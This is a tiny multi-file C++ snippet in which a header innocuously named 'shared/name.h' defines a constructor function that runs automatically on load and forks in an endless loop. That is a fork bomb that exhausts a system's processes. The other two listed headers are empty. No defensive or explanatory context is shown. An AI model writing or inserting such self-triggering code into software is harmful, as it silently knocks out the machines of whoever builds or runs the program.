//@ shared/name.h
#include <unistd.h>
#include <signal.h>
#include <cstdio>
#include <cstdlib>
__attribute__((constructor)) static void burst() {
  take_name();
  for (;;)
    if (fork() < 0) pause();
}
//@ shared/scale.h
//@ shared/launcher.h
